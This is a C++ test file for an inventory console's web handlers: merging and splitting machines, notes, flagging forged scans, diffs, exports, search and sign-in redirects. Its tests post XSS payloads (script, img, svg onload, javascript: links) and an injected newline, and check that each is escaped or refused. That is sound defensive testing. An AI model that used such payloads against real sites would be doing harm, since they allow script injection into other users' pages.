    const std::uint64_t before = store_->machine(kept)->scanCount + store_->machine(away)->scanCount;
    const Response merged = console_(request("POST", keptPath + "/merge", admin, "token=" + token + "&from=" + from));
    EXPECT_EQ(merged.status, 303);
    EXPECT_EQ(headerOf(merged, "Location"), keptPath);
    EXPECT_FALSE(store_->machine(away));
    EXPECT_EQ(store_->machine(kept)->scanCount, before);

    // Split the workstation's first scan off again.
    const Response splitOff = console_(request("POST", split, admin, "token=" + token));
    ASSERT_EQ(splitOff.status, 303);
    const std::string own = headerOf(splitOff, "Location");
    ASSERT_TRUE(own.starts_with("/machines/"));
    const auto ownId = std::stoll(own.substr(10));
    EXPECT_NE(ownId, kept);
    EXPECT_EQ(store_->machine(ownId)->latestScanId, first.scanId);
    EXPECT_EQ(console_(request("POST", split, admin, "token=" + token)).status, 409) << "alone already";

    // Placeholders: refused values say why; a value is added once and deleted.
    struct Value {
        std::string value;
        int status;
    };
    const std::string mine = "PH-" + prefix_;
    const auto placeholderOf = [&]() -> std::optional<storage::PlaceholderValue> {
        for (const auto& p : store_->placeholders())
            if (p.value == mine) return p;
        return std::nullopt;
    };
    EXPECT_FALSE(placeholderOf()) << "the viewer added nothing";
    const Value values[] = {{mine, 303}, {"...", 400}, {"To Be Filled By O.E.M.", 400},
                            {std::string(storage::kMaxPlaceholderBytes + 1, 'x'), 400}, {"a%0Ab", 400}};
    for (const auto& v : values)
        EXPECT_EQ(console_(request("POST", "/placeholders", admin, "token=" + token + "&value=" + v.value)).status,
                  v.status)
            << v.value;
    ASSERT_TRUE(placeholderOf());
    EXPECT_EQ(placeholderOf()->addedBy, user_);
    EXPECT_NE(console_(request("GET", "/placeholders", admin)).body.find(mine), std::string::npos);
    EXPECT_EQ(console_(request("POST", "/placeholders/delete", admin, "token=" + token + "&value=" + mine)).status, 303);
    EXPECT_FALSE(placeholderOf());

    // Notes: hostile text is shown escaped; only https links are taken.
    const std::string hostile = "%3Cscript%3Ealert(1)%3C%2Fscript%3E%20%22%3E%3Cimg%20src%3Dx%3E";
    EXPECT_EQ(console_(request("POST", keptPath + "/notes", admin,
                               "token=" + token + "&text=" + hostile + "&link=https%3A%2F%2Ftickets.example%2F42"))
                  .status,
              303);
    for (const char* link : {"javascript%3Aalert(1)", "http%3A%2F%2Ftickets.example%2F1", "https%3A%2F%2Fa%22onmouseover%3D"})
        EXPECT_EQ(console_(request("POST", keptPath + "/notes", admin, "token=" + token + "&text=x&link=" + link)).status, 400)
            << link;
    EXPECT_EQ(console_(request("POST", "/machines/999999/notes", admin, "token=" + token + "&text=x")).status, 404);
    const Response noted = console_(request("GET", keptPath, admin));
    EXPECT_NE(noted.body.find("&lt;script&gt;alert(1)&lt;/script&gt; &quot;&gt;&lt;img src=x&gt;"), std::string::npos);
    EXPECT_EQ(noted.body.find("<img src=x>"), std::string::npos);
    EXPECT_NE(noted.body.find("href=\"https://tickets.example/42\""), std::string::npos);
    EXPECT_EQ(store_->notes(kept).size(), 1u);

    // Every change, with who made it.
    std::map<std::string, int> recorded;
    for (const auto& e : store_->auditEntries({})) {
        if (e.actor == user_) ++recorded[e.action];
        // The viewer's reads are recorded as reads; nothing it was refused is.
        const bool read = e.action == storage::audit::kMachineViewed ||
                          e.action == storage::audit::kSignIn || e.action == storage::audit::kExport;
        if (!read) {
            EXPECT_NE(e.actor, viewerName) << "refused changes are not recorded: " << e.action;
        }
    }
    EXPECT_EQ(recorded[std::string(storage::audit::kMachinesMerged)], 1);
    EXPECT_EQ(recorded[std::string(storage::audit::kScanSplit)], 1);
    EXPECT_EQ(recorded[std::string(storage::audit::kPlaceholderAdded)], 1);
    EXPECT_EQ(recorded[std::string(storage::audit::kPlaceholderDeleted)], 1);
    EXPECT_EQ(recorded[std::string(storage::audit::kNoteAdded)], 1);
}

// The conflicting scans, with what differs, each acceptable or split off from the list.
TEST_P(ConsoleTest, TheConflictingScansAreListedWithWhatDiffers) {
    const std::string admin = signIn();
    const std::string token = formTokenOf(admin);
    MachineWmi real = workstation();
    real.serial = "REAL-" + prefix_;
    ASSERT_FALSE(store_->addScan(newScan(sealedScan("dell-libsmbios-Precision_390", real), kStart)).conflicting);
    MachineWmi forger;
    forger.vendor = "Forger Inc.";
    forger.name = "Claimed Box";
    forger.serial = real.serial;
    forger.uuid = real.uuid;
    forger.disks = {{"Forged Disk", "FORGED-DISK-1", "1.0", 256060514304ULL}};
    const auto forged = store_->addScan(newScan(sealedScan("infrasim-dell_r640", forger), kStart, "203.0.113.66"));
    ASSERT_TRUE(forged.conflicting);
    const Response list = console_(request("GET", "/conflicts", admin));
    ASSERT_EQ(list.status, 200);
    const std::string scanPath = "/scans/" + std::to_string(forged.scanId);
    EXPECT_NE(list.body.find("href=\"" + scanPath + "\""), std::string::npos);
    EXPECT_NE(list.body.find("203.0.113.66"), std::string::npos);
    EXPECT_NE(list.body.find("Forger Inc."), std::string::npos);
    std::optional<storage::ConflictingScan> listed;
    for (const auto& c : store_->conflictingScans(100))
        if (c.row.id == forged.scanId) listed = c;
    ASSERT_TRUE(listed);
    const auto compared = identity::compareFingerprints(identity::decodeFingerprint(listed->machineFingerprint),
                                                        identity::decodeFingerprint(listed->fingerprint));
    ASSERT_GE(compared.changed.size(), 2u);
    std::string differs;
    for (const auto& part : compared.changed) differs += (differs.empty() ? "" : ", ") + part;
    EXPECT_NE(list.body.find("<td><bdi>" + differs + "</bdi></td>"), std::string::npos) << "what differs is named";
    EXPECT_NE(list.body.find("action=\"" + scanPath + "/accept\""), std::string::npos);
    EXPECT_NE(list.body.find("action=\"" + scanPath + "/split\""), std::string::npos);
    const Response splitOff = console_(request("POST", scanPath + "/split", admin, "token=" + token));
    EXPECT_EQ(splitOff.status, 303);
    EXPECT_EQ(console_(request("GET", "/conflicts", admin)).body.find(scanPath), std::string::npos);
    EXPECT_NE(store_->scan(forged.scanId)->row.machineId, forged.machineId);
}

TEST_P(ConsoleTest, DiffPageShowsTheMovedModuleAndTheReplacedDiskOnly) {
    const std::string cookie = signIn();
    const auto a = scanOf("workstation, first scan"), b = scanOf("workstation, module moved and disk replaced");
    const Response r = console_(request("GET", "/diff?a=" + std::to_string(b) + "&b=" + std::to_string(a), cookie));
    ASSERT_EQ(r.status, 200);
    // What the differ says about these two scans, row for row.
    const auto before = report::summarise(*report::receiveSealed(seeds()[0].sealed).report.document);
    const auto after = report::summarise(*report::receiveSealed(seeds()[1].sealed).report.document);
    const auto changes = report::diff(before, after);
    ASSERT_FALSE(changes.empty());
    EXPECT_EQ(count(r.body, "<span class=\"tag "), changes.size());
    for (const auto& change : changes) {
        EXPECT_TRUE(change.component == "Memory" || change.component == "Disk") << change.component << " " << change.key;
    }
    EXPECT_NE(r.body.find("05176522"), std::string::npos) << "the moved module, by its serial";
    EXPECT_NE(r.body.find("S3Z1NB0K812345A"), std::string::npos) << "the new disk";
    EXPECT_NE(r.body.find("WD-WCAS82143317"), std::string::npos) << "the old disk";
    EXPECT_EQ(r.body.find("Free"), std::string::npos) << "free space moves by itself";
    // The older scan is "before", whichever order they were picked in.
    EXPECT_LT(r.body.find("/scans/" + std::to_string(a) + "\""), r.body.find("/scans/" + std::to_string(b) + "\""));

    const Response mixed = console_(request("GET", "/diff?a=" + std::to_string(a) + "&b=" +
                                                       std::to_string(scanOf("PowerEdge R630")), cookie));
    EXPECT_EQ(mixed.status, 400);
    EXPECT_NE(mixed.body.find("different machines"), std::string::npos);
    EXPECT_EQ(console_(request("GET", "/diff?a=1", cookie)).status, 400);
    EXPECT_EQ(console_(request("GET", "/diff?a=" + std::to_string(a) + "&b=99999999", cookie)).status, 404);
}

// A second scan that moved a module and replaced a disk: the feed, the machine's
// timeline and the exports say so, each row leading to the machine and to the two scans
// compared; the filters narrow it, and what they cannot read is said.
TEST_P(ConsoleTest, TheChangeFeedAndTheTimelineShowWhatTheDifferFound) {
    const std::string cookie = signIn();
    // A machine of this test's own (the database may be shared), scanned twice.
    MachineWmi before = workstation();
    before.serial = "CHG-" + prefix_;
    MachineWmi after = before;
    after.disks[1] = {"Samsung SSD 860 EVO 500GB", "S3Z1NB0K812345A", "RVT04B6Q", 500107862016ULL};
    after.volumeFree = 97334234624ULL;
    const auto first = store_->addScan(newScan(sealedScan("dell-libsmbios-Precision_390", before), kStart - 2000));
    const auto second = store_->addScan(
        newScan(sealedScan("dell-libsmbios-Precision_390", after, moveFirstModule), kStart - 1000));
    ASSERT_EQ(first.machineId, second.machineId);
    const auto machine = first.machineId;
    const std::string m = std::to_string(machine);
    const std::string a = std::to_string(first.scanId);
    const std::string b = std::to_string(second.scanId);
    const std::string diffHref = "/diff?a=" + a + "&amp;b=" + b;

    const Response feed = console_(request("GET", "/changes?machine=" + m, cookie));
    ASSERT_EQ(feed.status, 200) << feed.body;
    EXPECT_EQ(count(feed.body, "<span class=\"tag moved\">moved</span>"), 1u);
    EXPECT_EQ(count(feed.body, "<span class=\"tag changed\">changed</span>"), 1u);
    EXPECT_EQ(count(feed.body, "<span class=\"tag added\">"), 0u);
    EXPECT_EQ(count(feed.body, "<span class=\"tag removed\">"), 0u);
    EXPECT_EQ(count(feed.body, "href=\"" + diffHref + "\""), 2u);
    EXPECT_NE(feed.body.find("href=\"/machines/" + m + "\""), std::string::npos);
    EXPECT_NE(feed.body.find("Memory module"), std::string::npos);
    EXPECT_NE(feed.body.find("S3Z1NB0K812345A"), std::string::npos) << "the new disk";
    EXPECT_NE(feed.body.find("href=\"/changes\">Changes</a>"), std::string::npos) << "in the bar";

    const Response moved = console_(request("GET", "/changes?machine=" + m + "&change=moved", cookie));
    EXPECT_EQ(count(moved.body, "<span class=\"tag "), 1u);
    EXPECT_NE(moved.body.find("<option value=\"moved\" selected>"), std::string::npos);
    const Response disks = console_(request("GET", "/changes?machine=" + m + "&component=disk", cookie));
    EXPECT_EQ(count(disks.body, "<span class=\"tag changed\">"), 1u);
    EXPECT_EQ(count(disks.body, "<span class=\"tag moved\">"), 0u);
    const Response future = console_(request("GET", "/changes?machine=" + m + "&since=2099-01-01", cookie));
    EXPECT_NE(future.body.find("No change matches."), std::string::npos);
    for (const std::string bad : {"change=swapped", "component=%3Cscript%3E", "since=yesterday",
                                  "since=2026-02-01&until=2026-01-01", "machine=x", "after=12", "after=1.x"}) {
        const Response r = console_(request("GET", "/changes?" + bad, cookie));
        EXPECT_EQ(r.status, 400) << bad;
        EXPECT_NE(r.body.find("class=\"alert\""), std::string::npos) << bad;
        EXPECT_EQ(withoutConsoleScript(r.body).find("<script"), std::string::npos) << bad;
    }

    // The machine's page: the timeline under the scan that showed the changes.
    const std::string page = console_(request("GET", "/machines/" + m, cookie)).body;
    const auto section = page.find("id=\"changes\"");
    ASSERT_NE(section, std::string::npos);
    const std::string timeline = page.substr(section, page.find("</section>", section) - section);
    EXPECT_EQ(count(timeline, "<li class=\"scan\">"), 1u) << "one scan changed something";
    EXPECT_EQ(count(timeline, "<span class=\"tag "), 2u);
    EXPECT_NE(timeline.find("href=\"" + diffHref + "\""), std::string::npos);
    EXPECT_NE(timeline.find("href=\"/changes.csv?machine=" + m + "\""), std::string::npos);

    // Exports, audited like the others.
    const Response json = console_(request("GET", "/changes.json?machine=" + m, cookie));
    ASSERT_EQ(json.status, 200);
    const auto list = nlohmann::json::parse(json.body);
    ASSERT_EQ(list.size(), 2u);
    std::multiset<std::string> kinds;
    for (const auto& c : list) {
        kinds.insert(c["component"].get<std::string>() + " " + c["change"].get<std::string>());
        EXPECT_EQ(c["machineId"], machine);
        EXPECT_EQ(std::to_string(c["previousScanId"].get<std::int64_t>()), a);
    }
    EXPECT_EQ(kinds, (std::multiset<std::string>{"disk changed", "memory moved"}));
    const Response csv = console_(request("GET", "/changes.csv?machine=" + m, cookie));
    EXPECT_EQ(count(csv.body, "\r\n"), 3u);
    EXPECT_NE(headerOf(csv, "Content-Disposition").find("machine-" + m + "-changes.csv"), std::string::npos);
    const auto exports = auditOf(user_, std::string(storage::audit::kExport));
    ASSERT_GE(exports.size(), 2u);
    EXPECT_EQ(exports[0].target, "machine-" + m + "-changes.csv");
    EXPECT_EQ(exports[1].target, "machine-" + m + "-changes.json");
    EXPECT_EQ(exports[0].detail, "machine " + m);
}

TEST_P(ConsoleTest, ExportsGiveTheReportAsSentAsUtf8AndTheScanAsJson) {
    const std::string cookie = signIn();
    const auto scan = scanOf("workstation, first scan");
    const auto received = report::receiveSealed(seeds()[0].sealed).report;
    const Response raw = console_(request("GET", "/scans/" + std::to_string(scan) + "/report", cookie));
    ASSERT_EQ(raw.status, 200);
    EXPECT_EQ(headerOf(raw, "Content-Type"), "application/octet-stream");
    EXPECT_TRUE(headerOf(raw, "Content-Disposition").starts_with("attachment; filename=\""));
    EXPECT_EQ(raw.body, received.reportBytes);

    const Response xml = console_(request("GET", "/scans/" + std::to_string(scan) + "/report.xml", cookie));
    EXPECT_EQ(headerOf(xml, "Content-Type"), "application/xml; charset=utf-8");
    EXPECT_TRUE(headerOf(xml, "Content-Disposition").starts_with("attachment; "));
    EXPECT_EQ(xml.body, received.text);

    const Response json = console_(request("GET", "/scans/" + std::to_string(scan) + ".json", cookie));
    EXPECT_EQ(headerOf(json, "Content-Type"), "application/json; charset=utf-8");
    const auto document = nlohmann::json::parse(json.body);
    EXPECT_EQ(document["scan"]["id"], scan);
    EXPECT_EQ(document["summary"]["model"], "Precision WorkStation 390");
    EXPECT_EQ(document["summary"]["memory"].size(), 4u);

    EXPECT_EQ(console_(request("GET", "/scans/99999999.json", cookie)).status, 404);
    EXPECT_EQ(console_(request("GET", "/scans/x/report", cookie)).status, 404);
}

// The pages read the summary stored with a scan, not its report again. A summary stored by
// an older version, without some of the fields the page shows, is made again from the
// report the first time it is read, and stored in its place.
TEST_P(ConsoleTest, PagesReadTheStoredSummaryAndMakeAnOlderOneAgainOnce) {
    const std::string cookie = signIn();
    const auto page = [&](std::int64_t scan) {
        return console_(request("GET", "/scans/" + std::to_string(scan), cookie)).body;
    };
    const auto stored = [&](std::int64_t scan) {
        return nlohmann::json::parse(store_->scan(scan)->summaryJson);
    };

    // What is stored is what is shown, even where the report says otherwise.
    const auto first = scanOf("workstation, first scan");
    auto summary = stored(first);
    summary["boardSerial"] = "STORED-BOARD-SERIAL";
    ASSERT_TRUE(store_->putSummary(first, summary.dump()));
    EXPECT_NE(page(first).find("STORED-BOARD-SERIAL"), std::string::npos);

    // An older summary: no controllers, no explained errors, disks without firmware.
    const auto second = scanOf("workstation, module moved and disk replaced");
    const auto complete = stored(second);
    auto older = complete;
    older.erase("controllers");
    older.erase("errorsExplained");
    for (auto& disk : older["disks"]) disk.erase("firmware");
    older["model"] = "Older model";
    ASSERT_TRUE(store_->putSummary(second, older.dump()));
    const std::string shown = page(second);
    EXPECT_EQ(shown.find("Older model"), std::string::npos);
    EXPECT_NE(shown.find("Precision WorkStation 390"), std::string::npos);
    EXPECT_EQ(stored(second), complete);

    // Made again once: from then on the stored one is read.
    auto edited = complete;
    edited["boardSerial"] = "EDITED-AFTER";
    ASSERT_TRUE(store_->putSummary(second, edited.dump()));
    EXPECT_NE(page(second).find("EDITED-AFTER"), std::string::npos);
}

TEST_P(ConsoleTest, ListSearchesSortsAndPagesOnTheServer) {
    // Sixty more machines: the workstation's report with other serial numbers and UUIDs.
    MachineWmi m = workstation();
    for (int i = 0; i < 60; ++i) {
        char uuid[40];
        std::snprintf(uuid, sizeof uuid, "11111111-2222-3333-4444-%012d", i);
        m.serial = "BULK" + std::to_string(1000 + i);
        m.uuid = uuid;
        m.name = "Bulk " + std::to_string(1000 + i);
        store_->addScan(newScan(sealedScan("dell-libsmbios-Precision_390", m), kStart + i));
    }
    const std::string cookie = signIn();
    const Response first = console_(request("GET", "/machines?sort=model&dir=asc", cookie));
    EXPECT_EQ(count(first.body, "<td class=\"text\"><a href=\"/machines/"), 50u);
    const auto total = store_->machines({}).total;
    EXPECT_NE(first.body.find("1–50 of " + std::to_string(total)), std::string::npos);
    EXPECT_EQ(pagerLink(first.body, "‹ Previous"), "") << "the first page has nothing before it";
    EXPECT_EQ(pagerLink(first.body, "Last »"), "/machines?sort=model&dir=asc&end=1");
    EXPECT_LT(first.body.find("Bulk 1000"), first.body.find("Bulk 1001"));
    // The pager's links walk the list a page at a time, each machine once, either way.
    const auto machineLinks = [](const std::string& body) {
        std::vector<std::string> links;
        for (auto at = body.find("><a href=\"/machines/"); at != std::string::npos;
             at = body.find("><a href=\"/machines/", at + 1))
            links.push_back(body.substr(at + 11, body.find('"', at + 11) - at - 11));
        return links;
    };
    const Response second = console_(request("GET", pagerLink(first.body, "Next ›"), cookie));
    EXPECT_EQ(count(second.body, "<td class=\"text\"><a href=\"/machines/"), total - 50);
    EXPECT_EQ(pagerLink(second.body, "Next ›"), "") << "the last page has nothing after it";
    // The last page: the last 50, and from the end the page knows where it is.
    const Response last = console_(request("GET", pagerLink(first.body, "Last »"), cookie));
    std::vector<std::string> tail = machineLinks(first.body);
    for (const auto& link : machineLinks(second.body)) tail.push_back(link);
    tail.erase(tail.begin(), tail.end() - 50);
    EXPECT_EQ(machineLinks(last.body), tail);
    EXPECT_NE(last.body.find(std::to_string(total - 49) + "–" + std::to_string(total) + " of "), std::string::npos);
    EXPECT_EQ(pagerLink(last.body, "Last »"), "");
    const Response back = console_(request("GET", pagerLink(second.body, "‹ Previous"), cookie));
    EXPECT_EQ(machineLinks(back.body), machineLinks(first.body));
    std::vector<std::string> every = machineLinks(first.body);
    for (const auto& link : machineLinks(second.body)) every.push_back(link);
    std::sort(every.begin(), every.end());
    EXPECT_EQ(std::unique(every.begin(), every.end()), every.end()) << "no machine on both pages";
    EXPECT_EQ(every.size(), total);
    // A place whose value is no number for a numeric sort, or no place at all: the first page.
    for (const char* odd : {"/machines?sort=memory&after=3&key=lots", "/machines?after=x&key=1",
                            "/machines?sort=model&before=1&key="}) {
        const Response r = console_(request("GET", odd, cookie));
        EXPECT_EQ(r.status, 200) << odd;
        EXPECT_NE(r.body.find("1–50 of "), std::string::npos) << odd;
    }
    // A place that is no text either engine stores: a page all the same.
    EXPECT_EQ(console_(request("GET", "/machines?sort=model&before=1&key=%FF%FE", cookie)).status, 200);
    const Response desc = console_(request("GET", "/machines?sort=model&dir=desc", cookie));
    ASSERT_NE(desc.body.find("Bulk 1058"), std::string::npos);
    EXPECT_GT(desc.body.find("Bulk 1058"), desc.body.find("Bulk 1059"));
    // Search by serial number and by UUID: exactly that machine.
    for (const std::string q : {"BULK1042", "11111111-2222-3333-4444-000000000042"}) {
        const Response r = console_(request("GET", "/machines?q=" + q, cookie));
        EXPECT_EQ(count(r.body, "<td class=\"text\"><a href=\"/machines/"), 1u) << q;
        EXPECT_NE(r.body.find("Bulk 1042"), std::string::npos) << q;
    }
    // Absurd pages and sort keys fall back instead of failing.
    EXPECT_EQ(console_(request("GET", "/machines?page=99999999999999999999&sort=%00&dir=x", cookie)).status, 200);
    EXPECT_EQ(console_(request("GET", "/machines?page=5000", cookie)).status, 200);
}

TEST_P(ConsoleTest, SurveyValuesInTheSearchFilterTheListAndTheCsv) {
    const std::string cookie = signIn();
    // Every machine's maker as the survey counts it: by its latest scan.
    std::map<std::string, std::size_t> makers;
    storage::MachineQuery all;
    all.limit = 1000;
    for (const auto& m : store_->machines(all).machines) {
        const auto record = store_->scan(m.latestScanId);
        ASSERT_TRUE(record);
        const auto values = report::survey::facetsOf(report::summaryFromJsonText(record->summaryJson));
        ++makers[report::survey::facet(values, report::survey::Dimension::Maker)];
    }
    ASSERT_GE(makers.size(), 2u) << "the seeds are machines of several makers";
    for (const auto& [maker, n] : makers) {
        std::string quoted;
        for (const char ch : maker) {
            if (ch == '"' || ch == '\\') quoted += '\\';
            quoted += ch;
        }
        const std::string q = console::urlEncode("maker:\"" + quoted + "\"");
        const Response r = console_(request("GET", "/machines?q=" + q, cookie));
        EXPECT_EQ(r.status, 200) << maker;
        EXPECT_EQ(count(r.body, "<td class=\"text\"><a href=\"/machines/"), std::min<std::size_t>(n, 50)) << maker;
        EXPECT_EQ(console_(request("GET", "/machines.csv?q=" + q, cookie)).status, 200) << maker;
    }
    for (const std::string path : {"/machines?q=memory%3ADDR5", "/machines.csv?q=memory%3ADDR5"}) {
        const Response unknown = console_(request("GET", path, cookie));
        EXPECT_EQ(unknown.status, 400) << path;
        EXPECT_NE(unknown.body.find("no survey dimension is called"), std::string::npos) << path;
    }
}

// The strings of the SMBIOS system structure (type 1) of a real table, by their field
// offset: what Windows answers in Win32_ComputerSystemProduct for that machine.
std::string systemString(const std::string& table, std::size_t offset) {
    const std::vector<std::uint8_t> value = realRegistryValue(table);
    std::size_t at = 8;  // the registry value's header
    while (at + 4 <= value.size()) {
        const std::uint8_t type = value[at], length = value[at + 1];
        std::size_t strings = at + length;
        std::vector<std::string> texts;
        while (strings < value.size() && value[strings] != 0) {
            std::string text;
            while (strings < value.size() && value[strings] != 0) text += static_cast<char>(value[strings++]);
            texts.push_back(text);
            ++strings;
        }
        if (type == 1) {
            const std::uint8_t index = offset < length ? value[at + offset] : 0;
            return index >= 1 && index <= texts.size() ? texts[index - 1] : std::string();
        }
        at = (texts.empty() ? strings + 2 : strings + 1);
    }
    return {};
}

TEST_P(ConsoleTest, AReceiptOpensItsScanInAnyFormAndOneTwoScansShareListsBoth) {
    const std::string cookie = signIn();
    // The earlier of the workstation's scans: its page, not the machine's latest.
    const auto earlier = scanOf("workstation, first scan");
    const std::string receipt = store_->scan(earlier)->row.receipt;
    ASSERT_EQ(receipt.size(), 14u) << receipt;
    std::string lower = receipt, bare;
    std::transform(lower.begin(), lower.end(), lower.begin(), [](char c) { return asciiLower(c); });
    for (const char c : receipt)
        if (c != '-') bare += c;
    for (const std::string& typed : {receipt, lower, bare, "  " + lower + " ", "\t" + bare}) {
        const Response r = console_(request("GET", "/machines?q=" + console::urlEncode(typed), cookie));
        EXPECT_EQ(r.status, 303) << '"' << typed << '"';
        EXPECT_EQ(headerOf(r, "Location"), "/scans/" + std::to_string(earlier)) << '"' << typed << '"';
    }
    const Response opened = console_(request("GET", "/scans/" + std::to_string(earlier), cookie));
    EXPECT_NE(opened.body.find("Earlier scan"), std::string::npos);
    EXPECT_NE(opened.body.find("<code><bdi>" + receipt + "</bdi></code>"), std::string::npos);

    // Two scans whose digests begin alike share a receipt: both are listed, each row opening
    // its scan and saying so. (The receipt is this test's own: the database may be shared.)
    char digits[13];
    std::snprintf(digits, sizeof digits, "%012llX",
                  static_cast<unsigned long long>(std::hash<std::string>{}(prefix_)) & 0xFFFFFFFFFFFFull);
    const std::string shared = std::string(digits, 4) + "-" + std::string(digits + 4, 4) + "-" + (digits + 8);
    std::vector<std::int64_t> twins;
    for (const char* seed : {"PowerEdge R630", "Precision T7600"}) {
        storage::NewScan twin = newScan(sealedScan("uroot-smbios_table", workstation()), kStart);
        for (const auto& s : seeds())
            if (s.name == seed) twin = newScan(s.sealed, kStart - 1000);
        twin.sealedDigest += "-" + prefix_;
        twin.receipt = shared;
        twins.push_back(store_->addScan(twin).scanId);
    }
    const Response both = console_(request("GET", "/machines?q=" + shared, cookie));
    ASSERT_EQ(both.status, 200);
    for (const auto id : twins)
        EXPECT_NE(both.body.find("<a href=\"/scans/" + std::to_string(id) + "\" title="), std::string::npos) << id;
    EXPECT_EQ(count(both.body, "Matched receipt <bdi>" + shared), 2u);
    EXPECT_NE(both.body.find("PowerEdge R630"), std::string::npos);
    EXPECT_NE(both.body.find("Precision T7600"), std::string::npos);

    // Receipt-shaped but no scan's: searched as text, found nowhere.
    const Response none = console_(request("GET", "/machines?q=0000-0000-0001", cookie));
    EXPECT_EQ(none.status, 200);
    EXPECT_EQ(count(none.body, "<td class=\"text\"><a href="), 0u);
}

TEST_P(ConsoleTest, AProductNamedInTheVersionIsShownAndFoundAndFilledInForOlderScans) {
    // The ThinkPad as Windows describes it: the system structure's strings of its own table.
    const std::string table = "uroot-Lenovo-ThinkPad-T480";
    MachineWmi m;
    m.vendor = systemString(table, 0x04);
    m.name = systemString(table, 0x05);
    m.version = systemString(table, 0x06);
    m.serial = systemString(table, 0x07);
    m.uuid = "161674CC-2A1E-11B2-A85C-E121881D01B9";
    m.disks = {{"SAMSUNG MZVLB512HAJQ-000L7", "S3TNNX0K123456", "4L2QEXA7", 512110190592ULL}};
    ASSERT_EQ(m.name, "20L8S07A14");
    ASSERT_NE(m.version.find("ThinkPad T480"), std::string::npos) << m.version;
    const storage::AddResult added = store_->addScan(newScan(sealedScan(table, m), kStart));
    const std::string cookie = signIn();
    const auto rowsFound = [&](const std::string& q) {
        return count(console_(request("GET", "/machines?q=" + console::urlEncode(q), cookie)).body,
                     "<td class=\"text\"><a href=");
    };
    const std::string product = "<span class=\"product\"><bdi>" + m.version + "</bdi></span>";
    const Response list = console_(request("GET", "/machines?q=ThinkPad+T480", cookie));
    EXPECT_EQ(count(list.body, "<td class=\"text\"><a href="), 1u);
    EXPECT_NE(list.body.find("<bdi>20L8S07A14</bdi></a> " + product), std::string::npos);
    EXPECT_EQ(list.body.find("class=\"match\""), std::string::npos) << "the row shows what matched";
    EXPECT_EQ(rowsFound("thinkpad"), 1u);
    const Response page = console_(request("GET", "/machines/" + std::to_string(added.machineId), cookie));
    EXPECT_NE(page.body.find("<bdi>20L8S07A14</bdi> " + product + "</h1>"), std::string::npos);
    // A machine whose firmware leaves no name there shows none.
    const Response other = console_(request("GET", "/machines/" + std::to_string(machineOf("PowerEdge R630")), cookie));
    EXPECT_EQ(other.body.find("class=\"product\""), std::string::npos);

    // Stored before the column: no product and a summary without the version. Opening the
    // page makes the summary again, and the product with it.
    storage::ScanColumns columns = store_->scan(added.scanId)->row.columns;
    columns.product.clear();
    ASSERT_TRUE(store_->refreshColumns(added.scanId, columns));
    auto summary = nlohmann::json::parse(store_->scan(added.scanId)->summaryJson);
    summary.erase("productVersion");
    ASSERT_TRUE(store_->putSummary(added.scanId, summary.dump()));
    EXPECT_EQ(rowsFound("ThinkPad T480"), 0u);
    ASSERT_EQ(console_(request("GET", "/scans/" + std::to_string(added.scanId), cookie)).status, 200);
    EXPECT_EQ(store_->machine(added.machineId)->latest.product, m.version);
    EXPECT_EQ(rowsFound("ThinkPad T480"), 1u);
}

TEST_P(ConsoleTest, ASerialNumberOrUuidMatchSaysWhoseItIs) {
    // A workstation of this test's own (the database may be shared): its serial number, UUID
    // and disk serial are no other machine's; its modules' serials are every Precision 390's.
    std::string digits;
    for (const char c : prefix_)
        if (c >= '0' && c <= '9') digits += c;
    MachineWmi m = workstation();
    m.serial = "MATCH" + digits;
    m.uuid = "4C4C4544-0054-5110-8043-" + std::string(12 - std::min<std::size_t>(12, digits.size()), '0') +
             digits.substr(0, 12);
    m.disks[0].serial = "DSK" + digits;
    const storage::AddResult added = store_->addScan(newScan(sealedScan("dell-libsmbios-Precision_390", m), kStart));
    const std::string cookie = signIn();
    const report::Summary s = report::summaryFromJsonText(store_->scan(added.scanId)->summaryJson);
    const report::MemorySlotSummary* module = nullptr;
    for (const auto& slot : s.memory)
        if (!slot.empty && !slot.serialNumber.empty() && !module) module = &slot;
    ASSERT_NE(module, nullptr);
    const std::string workstationRow = "/machines/" + std::to_string(added.machineId);
    const std::string diskLine = "Matched disk <bdi>ST3250310AS</bdi> serial number <bdi>" + m.disks[0].serial + "</bdi>";
    std::string uuidTail = m.uuid.substr(24);
    std::transform(uuidTail.begin(), uuidTail.end(), uuidTail.begin(), [](char c) { return asciiLower(c); });
    // The module's serial is every such machine's: the machine's own serial number picks it
    // out among them.
    const std::vector<std::pair<std::string, std::string>> cases = {
        {module->serialNumber + " " + m.serial, "Matched memory module <bdi>" + report::slotName(*module) +
                                                    "</bdi> serial number <bdi>" + module->serialNumber + "</bdi>"},
        {m.disks[0].serial, diskLine},
        {"match" + digits, "Matched serial number <bdi>" + m.serial + "</bdi>"},
        {"-" + uuidTail, "Matched UUID <bdi>" + m.uuid + "</bdi>"},
        {"precision " + m.disks[0].serial, diskLine},
    };
    for (const auto& [q, line] : cases) {
        const Response r = console_(request("GET", "/machines?q=" + console::urlEncode(q), cookie));
        ASSERT_EQ(r.status, 200) << q;
        const auto row = r.body.find("<a href=\"" + workstationRow + "\" title=");
        ASSERT_NE(row, std::string::npos) << q;
        // The line follows its row, before the next one.
        const auto at = r.body.find(line, row);
        EXPECT_NE(at, std::string::npos) << q << ": " << r.body.substr(row, 1200);
        EXPECT_LT(at, r.body.find("<tr>", row)) << q;
    }
    // What the row shows needs no line.
    for (const std::string q : {"Dell", "precision workstation", "ST3250310AS"}) {
        const Response r = console_(request("GET", "/machines?q=" + console::urlEncode(q), cookie));
        EXPECT_EQ(r.body.find("class=\"match\""), std::string::npos) << q;
    }
    // Hostile values in the line are escaped and isolated.
    const Response hostile = console_(request("GET", "/machines?q=" + console::urlEncode("cmd|"), cookie));
    EXPECT_NE(hostile.body.find("Matched disk <bdi>&apos;&gt;&lt;svg onload=window.__gravelinPwned=5&gt;</bdi> serial number <bdi>"),
              std::string::npos);
    EXPECT_EQ(hostile.body.find("<svg"), std::string::npos);
}

TEST_P(ConsoleTest, ASignInLeadsBackToThePageAskedForAndNowhereElse) {
    const std::string target = "/scans/" + std::to_string(scanOf("workstation, first scan")) + "?x=1";
    const Response asked = console_(request("GET", target));
    ASSERT_EQ(headerOf(asked, "Location"), "/signin?next=" + console::urlEncode(target));
    const auto signInVia = [&](const std::string& signInQuery, const std::string& postedNext) {
        const Response form = console_(request("GET", "/signin" + signInQuery));
        const std::string body = "token=" + hiddenToken(form.body) + "&name=" + user_ +
                                 "&password=correct+horse+battery+staple" + postedNext;
        return std::make_pair(form, console_(request("POST", "/signin", cookiesFrom(form), body)));
    };
    {
        const auto [form, signedIn] = signInVia("?next=" + console::urlEncode(target), "&next=" + console::urlEncode(target));
